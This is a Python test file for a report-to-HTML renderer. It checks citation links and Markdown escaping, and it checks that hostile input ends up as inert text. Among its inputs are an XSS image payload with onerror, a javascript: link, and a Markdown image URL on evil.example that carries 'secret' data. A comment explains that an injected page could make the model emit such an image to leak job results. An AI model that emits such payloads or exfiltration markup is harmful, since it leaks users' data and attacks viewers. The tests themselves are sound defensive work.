"""The report as HTML (heavy/api/report_html.py): what the dashboard shows of the Markdown a report pass wrote."""

from heavy.api.report_html import report_html

REPORT = """# When was the tower finished?

**Answer:** 1889 [1][2]

From the fetched pages, word for word:

- “An exception is \\*raised\\* where the error is found” [2]

_"On [n]": a fetched page holds the answer's words._

## Sources

1. [eiffel](http://corpus/eiffel) — fetched 2026-12-06 19:10 UTC, sha256 f55469dbf7b0
2. [fair](http://corpus/fair) — fetched 2026-12-06 19:10 UTC, sha256 a72b6fbef9c9
"""


def test_citations_link_to_source_items_that_carry_their_ids():
    html = report_html(REPORT)
    assert ('<strong>Answer:</strong> 1889 <a class="cite" href="#src-1" data-cite="1">[1]</a>'
            '<a class="cite" href="#src-2" data-cite="2">[2]</a>') in html
    assert ('<li id="src-1" dir="auto"><a href="http://corpus/eiffel" target="_blank" rel="noopener noreferrer">'
            'eiffel</a>') in html
    assert '<li id="src-2" dir="auto">' in html and html.count(' id="src-') == 2


def test_markdown_escapes_and_emphasis_render_as_a_reader_expects():
    # the dashboard's own renderer showed "\\*raised\\*" and the underscores of the answer list's note as typed
    html = report_html(REPORT)
    assert "is *raised* where" in html and "\\*" not in html
    assert "<em>&quot;On [n]&quot;: a fetched page holds the answer's words.</em>" in html  # [n] is no citation


def test_a_page_quoted_in_a_report_can_only_be_text():
    html = report_html('- “<img src=x onerror=alert(1)>” [1]\n- [click](javascript:alert(1))\n\n`[3]` and [see [4]](http://x)')
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert 'href="javascript' not in html
    assert "<code>[3]</code>" in html and 'data-cite="4"' not in html  # code and a link's own text stay as written


def test_a_report_without_sources_gives_no_ids():
    assert "id=" not in report_html("# Q\n\n**Answer:** no answer\n\n## Sources\n\nnone fetched\n")


def test_an_escaped_bracket_is_text_not_a_citation():
    # the report escapes a quoted page's footnote marks ("1889.\[3]"): they are no citations of its sources
    html = report_html("- “It was finished in 1889.\\[3] It is tall.\\[1]” [2]")
    assert "1889.[3] It is tall.[1]” " in html and 'data-cite="2"' in html
    assert 'data-cite="3"' not in html and 'data-cite="1"' not in html


def test_an_image_a_report_names_is_a_link_the_reader_may_follow_never_a_request_the_page_makes():
    # a page can ask the model to write ![](https://attacker/?q=what the job found): as <img> the dashboard would
    # send that URL the moment the report is shown, with no click
    html = report_html("Paris [1] ![x](https://evil.example/leak?d=secret)\n\n![](/v1/jobs)")
    assert "<img" not in html
    assert '<a href="https://evil.example/leak?d=secret" target="_blank" rel="noopener noreferrer">x</a>' in html
